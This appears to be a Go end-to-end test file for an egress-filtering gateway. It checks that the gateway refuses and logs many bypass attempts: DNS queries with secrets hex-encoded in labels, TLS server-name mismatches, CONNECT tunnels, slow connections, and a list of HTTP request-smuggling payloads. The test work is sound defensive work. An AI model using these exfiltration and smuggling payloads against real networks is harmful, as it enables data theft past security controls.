package e2e

import (
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"strings"
)

// questionProbes ask the gateway's name server wrongly, and others past it. That no question left is seen in the world, whose resolver reports each.
func questionProbes() []probe {
	const nothing = `RCodeNameError|without records|0 answers`
	ask := func(id, what, args, refused, host string) probe {
		p := probe{id: id, what: what, run: "$A dns " + args, refused: refused, control: "$A dns 198.18.0.1 allowed.example.com; test $? = 1"}
		if host != "" {
			p.record = &event{Host: host, Protocol: "dns", Rule: "default"}
		}
		return p
	}
	probes := []probe{
		ask("B1a", "a secret in the labels of a denied name", "198.18.0.1 733363726574.b1a.example.org", nothing, "733363726574.b1a.example.org"),
		ask("B1b", "the same by TCP", "198.18.0.1 733363726574.b1b.example.org 1 tcp", nothing, "733363726574.b1b.example.org"),
		ask("B1c", "the same as a text question", "198.18.0.1 733363726574.b1c.example.org 16", nothing, "733363726574.b1c.example.org"),
		ask("B1d", "the same to a public resolver", "8.8.8.8 733363726574.b1d.example.org", nothing, "733363726574.b1d.example.org"),
		ask("B4g", "the same to a public resolver by TCP", "9.9.9.9 733363726574.b4g.example.org 1 tcp", nothing, "733363726574.b4g.example.org"),
		ask("B4h", "the same to the machine's resolver", "192.0.2.53 733363726574.b4h.example.org", nothing, "733363726574.b4h.example.org"),
		ask("B4i", "an allowed name at a public resolver: only a synthetic address comes back", "8.8.8.8 allowed.example.com", "synthetic", ""),
		ask("B1e", "a reverse question that carries a secret", "198.18.0.1 115.51.99.114.in-addr.arpa 12", nothing, ""),
		ask("B1f", "a service question", "198.18.0.1 _ldap._tcp.s3cret.example.org 33", nothing, ""),
		ask("B5c", "HTTPS records of an allowed name (other ports, encrypted hellos)", "198.18.0.1 allowed.example.com 65", nothing, ""),
		ask("B5d", "text records of an allowed name", "198.18.0.1 allowed.example.com 16", nothing, ""), ask("B5e", "every record of an allowed name", "198.18.0.1 allowed.example.com 255", nothing, ""),
		ask("B14a", "a NUL byte in a name", "198.18.0.1 allowed.example.+636f6d002e6576696c.example.org", nothing, ""),
		ask("B14b", "a line break in a name", "198.18.0.1 +610d0a62.example.org", nothing, ""), ask("B14c", "a space and a percent sign in a name", "198.18.0.1 +6120622531.example.org", nothing, ""),
		ask("B13b", "a dot inside a label", "198.18.0.1 +616c6c6f7765642e6578616d706c65.com", nothing, ""), ask("B13c", "an underscore", "198.18.0.1 _allowed.example.com", nothing, ""),
		ask("B13d", "letters beyond ASCII", "198.18.0.1 +d0b06c6c6f776564.example.com", nothing, ""), ask("B2a", "a long label below an allowed wildcard", "198.18.0.1 "+strings.Repeat("s", 60)+"."+strings.Repeat("t", 60)+".wild.example.com", nothing, ""),
	}
	probes = append(probes,
		probe{id: "B11", what: "search domains of the machine", run: `getent ahosts intranet`, refused: "^\\s*$", control: "getent ahosts allowed.example.com", record: &event{Host: "intranet", Rule: "default"}},
		probe{id: "B2b", what: "more than 256 names below an allowed wildcard", run: `for i in $(seq 300); do $A dns 198.18.0.1 $(printf %x $((i * 7919))).wild.example.com; done | grep -c synthetic >n; n=$(cat n); echo "$n names"; test $n -gt 256`, refused: "2[0-9][0-9] names",
			control: "curl -sS --max-time $SOON http://allowed.example.com/", record: &event{Rule: "wildcard-limit"}},
	)
	head := "471101000001000000000000"
	name := "07616c6c6f776564076578616d706c6503636f6d00"
	for i, packet := range [][2]string{
		{"two questions", "471101000002000000000000" + name + "00010001" + name + "00010001"}, {"a compression loop", head + "c00c00010001"}, {"a question of another class (CHAOS)", head + name + "00100003"},
		{"a response", "471181000001000000000000" + name + "00010001"}, {"a dynamic update", "471128000001000000000000" + name + "00060001"}, {"a zone transfer", head + name + "00fc0001"},
		{"a label longer than 63 bytes", head + "7f" + strings.Repeat("61", 127) + "0000010001"}, {"an answer within a question", "471101000001000100000000" + name + "00010001c00c000100010000000000047f000001"},
		{"a question that ends early", head + "07616c6c"}, {"a packet of 4000 bytes", head + name + "00010001" + strings.Repeat("00", 4000)}, {"no question", "471101000000000000000000"},
	} {
		probes = append(probes, probe{
			id: "B10" + string(rune('c'+i)), what: "DNS: " + packet[0], run: "$A dnsraw " + packet[1], refused: "without records|timeout|refused after", control: "$A dnsraw " + head + name + "00010001; test $? = 0",
		})
	}
	return probes
}

// tlsProbes dial an allowed name and say another in the hello.
func tlsProbes() []probe {
	const other = "allowed.example.com:443 denied.example.com"
	say := func(id, what, args, rule string) probe {
		host, _, _ := strings.Cut(args, ":")
		return probe{id: id, what: what, run: "$A tls " + args, refused: refusal, control: "$A tls allowed.example.com:443 allowed.example.com", record: &event{Host: host, Port: 443, Rule: rule}}
	}
	split := func(p probe, how string) probe {
		p.control = "$A tls allowed.example.com:443 allowed.example.com " + how
		return p
	}
	bytes := func(id, what, to, send string, record event) probe {
		return probe{id: id, what: what, run: "$A http " + to + " '" + send + "'", refused: "0 answers of the world", control: "$A tls allowed.example.com:443 allowed.example.com", record: &record}
	}
	opaque := event{Host: "allowed.example.com", Rule: "opaque-protocol"}
	return []probe{
		say("C2a", "another server name than the dialled one", other, "name-mismatch"), say("C4a", "no server name", "allowed.example.com:443 x none", "no-server-name"),
		say("C2b", "an address as server name", "allowed.example.com:443 93.184.216.34", "no-server-name"),
		split(say("C7a", "another server name, byte by byte", other+" segments", "name-mismatch"), "segments"), split(say("C7b", "another server name, in many records", other+" records", "name-mismatch"), "records"),
		split(say("C7c", "another server name, in a hello of 50 KiB", other+" huge", "name-mismatch"), "huge"), split(say("C7d", "another server name, huge and in pieces", other+" huge segments", "name-mismatch"), "huge records"),
		say("C7e", "an encrypted hello", "allowed.example.com:443 denied.example.com ech", "encrypted-hello"), split(say("C2c", "a server name that ends like the dialled one", "allowed.example.com:443 x.allowed.example.com", "name-mismatch"), ""),
		{id: "C1", what: "an allowed server name at an attacker's address", run: "$A tls 8.8.6.1:443 allowed.example.com", refused: refusal, control: "$A tls allowed.example.com:443 allowed.example.com", record: &event{Address: "8.8.6.1", Port: 443, Rule: "raw-address"}},
		bytes("C6a", "SSH on port 443", "allowed.example.com:443", `SSH-2.0-x\r\n`, opaque), bytes("C6b", "rubbish that begins like TLS", "allowed.example.com:443", `\x16\x03\x01\x00\x05hello-secret`, opaque),
		bytes("C6c", "mail with STARTTLS on port 80", "other.example.com:80", `EHLO secret\r\nSTARTTLS\r\n`, event{Host: "other.example.com", Rule: "opaque-protocol"}),
		bytes("C15", "HTTP/2 without TLS", "allowed.example.com:80", `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n`, event{Host: "allowed.example.com"}), bytes("C6d", "an old hello (SSLv2)", "allowed.example.com:443", `\x80\x2e\x01\x03\x01secret`, opaque),
		{id: "C21a", what: "connections that say nothing", run: "$A slow allowed.example.com:443 '' 20", refused: "all ended", control: httpOK},
		{id: "C21b", what: "hellos that never end", run: `$A slow allowed.example.com:443 "$(printf '\026\003\001\002')" 20`, refused: "all ended", control: httpOK},
		{id: "C21c", what: "heads that never end", run: "$A slow allowed.example.com:80 'GET / HTTP/1.1' 20", refused: "all ended", control: httpOK},
	}
}

// httpProbes send requests that two servers would read differently. The world's server reads as naively as it can, so that a request which was smuggled shows.
func httpProbes() []probe {
	const host = `Host: allowed.example.com\r\n`
	const smuggled = `GET /smuggled HTTP/1.1\r\nHost: allowed.example.com\r\n\r\n`
	probes := []probe{
		{id: "C2d", what: "another Host than the dialled name", run: `curl -sSf --max-time $SOON -H 'Host: denied.example.com' http://other.example.com/c2d`, refused: "403|421|400", control: httpOK, record: &event{Host: "other.example.com", Rule: "name-mismatch"}},
		{id: "C8a", what: "a second request on the same connection for another name", refused: "1 answers", control: httpOK, record: &event{Host: "allowed.example.com", Rule: "name-mismatch"},
			run: `$A http allowed.example.com:80 'GET / HTTP/1.1\r\n` + host + `\r\nGET /smuggled HTTP/1.1\r\nHost: denied.example.com\r\n\r\n' 1`},
		{id: "B14d", what: "a NUL byte in Host", refused: "0 answers", control: httpOK, run: `$A http allowed.example.com:80 'GET /smuggled HTTP/1.1\r\nHost: allowed.example.com\x00.evil.example.org\r\n\r\n'`, record: &event{Host: "allowed.example.com", Rule: "malformed-request"}},
		{id: "A8b", what: "a proxy request through an allowed server (absolute form)", refused: "0 answers", control: httpOK, record: &event{Host: "allowed.example.com"},
			run: `$A http allowed.example.com:80 'GET http://denied.example.com/smuggled HTTP/1.1\r\nHost: denied.example.com\r\n\r\n'`},
		{id: "C3", what: "CONNECT through an allowed server", refused: "0 answers", control: httpOK, run: `$A http allowed.example.com:80 'CONNECT denied.example.com:443 HTTP/1.1\r\nHost: denied.example.com:443\r\n\r\nsecret'`, record: &event{Host: "allowed.example.com"}},
		{id: "C30", what: "CONNECT to a name server and a mail server", refused: "0 answers", control: httpOK, run: `$A http allowed.example.com:80 'CONNECT 8.8.8.8:53 HTTP/1.1\r\nHost: 8.8.8.8:53\r\n\r\nsecret'`, record: &event{Host: "allowed.example.com"}},
		{id: "C19", what: "TRACE", refused: "0 answers", control: httpOK, run: `$A http allowed.example.com:80 'TRACE /smuggled HTTP/1.1\r\n` + host + `\r\n'`, record: &event{Host: "allowed.example.com", Rule: "method-closed"}},
		{id: "C8b", what: "a WebSocket that the server did not open, and a request behind it", refused: "[0-2] answers", control: httpOK,
			run: `$A http allowed.example.com:80 'GET /ws HTTP/1.1\r\n` + host + `Connection: Upgrade\r\nUpgrade: websocket\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: denied.example.com\r\n\r\n' 2`},
	}
	for i, head := range [][2]string{
		{"both lengths (CL.TE)", `POST / HTTP/1.1\r\n` + host + `Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n` + smuggled}, {"two lengths", `POST / HTTP/1.1\r\n` + host + `Content-Length: 4\r\nContent-Length: 0\r\n\r\nabcd` + smuggled},
		{"a length with a sign", `POST / HTTP/1.1\r\n` + host + `Content-Length: +0\r\n\r\n` + smuggled}, {"a length in hexadecimal", `POST / HTTP/1.1\r\n` + host + `Content-Length: 0x0\r\n\r\n` + smuggled},
		{"a negative length", `POST / HTTP/1.1\r\n` + host + `Content-Length: -1\r\n\r\n` + smuggled}, {"an encoding that is nearly chunked", `POST / HTTP/1.1\r\n` + host + `Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n` + smuggled},
		{"chunked twice", `POST / HTTP/1.1\r\n` + host + `Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n` + smuggled}, {"a folded field", `GET / HTTP/1.1\r\n` + host + `X: a\r\n b\r\n\r\n` + smuggled},
		{"a bare line feed", `GET / HTTP/1.1\n` + `Host: allowed.example.com\n\n` + smuggled}, {"a bare carriage return", `GET / HTTP/1.1\r\n` + host + `X: a\rHost: denied.example.com\r\n\r\n` + smuggled},
		{"two Hosts", `GET / HTTP/1.1\r\n` + host + `Host: denied.example.com\r\n\r\n` + smuggled}, {"no Host", `GET / HTTP/1.1\r\n\r\n` + smuggled}, {"a space before the colon", `GET / HTTP/1.1\r\n` + host + `Content-Length : 5\r\n\r\n` + smuggled},
		{"a NUL in a field", `GET / HTTP/1.1\r\n` + host + `X: a\x00b\r\n\r\n` + smuggled}, {"an odd version", `GET / HTTP/1.9\r\n` + host + `\r\n` + smuggled}, {"a chunk size that overflows", `POST / HTTP/1.1\r\n` + host + `Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n` + smuggled},
		{"Host named by Connection", `GET / HTTP/1.1\r\n` + host + `Connection: host\r\n\r\n` + smuggled}, {"a space in the path", `GET /a b HTTP/1.1\r\n` + host + `\r\n` + smuggled},
	} {
		probes = append(probes, probe{
			id: "C9" + string(rune('a'+i)), what: "HTTP: " + head[0], run: "$A http allowed.example.com:80 '" + head[1] + "' 1", refused: "[01] answers", control: httpOK, record: &event{Host: "allowed.example.com", Protocol: "http", Rule: "malformed-request"},
		})
	}
	for i := range 4 {
		b := make([]byte, 20+rand.IntN(200))
		for j := range b {
			b[j] = byte(rand.Uint32())
		}
		var escaped strings.Builder
		for _, c := range b {
			escaped.WriteString(`\x` + hex.EncodeToString([]byte{c}))
		}
		probes = append(probes, probe{id: fmt.Sprintf("C9r%d", i), what: "random bytes on an allowed port", run: "$A http other.example.com:80 '" + escaped.String() + "'", refused: "0 answers", control: httpOK})
	}
	return probes
}

// emptyProbes run without any rule: nothing is open.
func emptyProbes() []probe {
	return []probe{
		{id: "A5a", what: "an empty policy: a name", run: "curl -sS --max-time $SOON http://allowed.example.com/", refused: noName, record: &event{Host: "allowed.example.com", Rule: "default"}},
		{id: "A5b", what: "an empty policy: an address", run: "$A tcp 93.184.216.34:80", refused: refusal, record: &event{Address: "93.184.216.34", Port: 80, Rule: "raw-address"}},
		{id: "A29", what: "an empty policy: the machine's localhost", run: "curl -sS --max-time $SOON http://localhost:8080/", refused: "refused|connect"},
	}
}
